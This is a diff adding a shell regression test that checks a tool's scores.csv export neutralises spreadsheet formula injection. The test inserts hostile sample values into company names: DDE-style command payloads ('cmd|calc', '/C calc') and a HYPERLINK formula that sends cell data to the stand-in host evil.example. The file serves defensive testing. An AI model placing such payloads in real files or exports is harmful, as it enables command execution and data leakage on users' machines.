@@ -173,4 +173,22 @@ rc_is "SIGTERM: the re-run finishes" $? 0
 "$YINFA" verify "$T/sig" >/dev/null 2>&1
 rc_is "SIGTERM: the folder verifies after the re-run" $? 0
 
+# ---- scores.csv: formula-looking names neutralised, numbers kept (FAILS-scores-csv-formula-injection)
+mkdir -p "$T/csv" && cd "$T/csv" || exit 3
+sh "$CASES/fails-scores-csv-formula-injection/make-round.sh" "$ROOT" >/dev/null 2>&1
+# and the other members of the kind: + - TAB and the full-width ＝ in a name
+sed -i 's#<name>漯河宛重工机械股份有限公司</name>#<name>+cmd|calc</name>#; s#<name>商丘宛食品有限公司</name>#<name>＝1+1</name>#' r.xml
+"$YINFA" run job.ini --only scores-csv,scores-xlsx >/dev/null 2>"$T/csv.err"
+rc_is "scores.csv: run exits 0" $? 0
+has "scores.csv: =HYPERLINK is text" out/scores.csv "HN-001,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"详情\"\")\","
+has "scores.csv: @SUM is text" out/scores.csv "HN-002,\"'@SUM(1+1)*cmd|' /C calc'!A0\","
+has "scores.csv: +cmd is text" out/scores.csv "\"'+cmd|calc\""
+has "scores.csv: full-width ＝ is text" out/scores.csv "\"'＝1+1\""
+if LC_ALL=C grep -aqE '(^|,)[=@+]' out/scores.csv; then fail "scores.csv: no field starts with = @ +" "$(LC_ALL=C grep -aE '(^|,)[=@+]' out/scores.csv | head -2)"
+else pass "scores.csv: no field starts with = @ +"; fi
+check "scores.csv: every enterprise has a row" test "$(grep -c '^HN-' out/scores.csv)" -eq 96
+"$YINFA" verify out >/dev/null 2>&1
+rc_is "the manifest (exact, not neutralised) verifies" $? 0
+cd "$ROOT" || exit 3
+
 finish
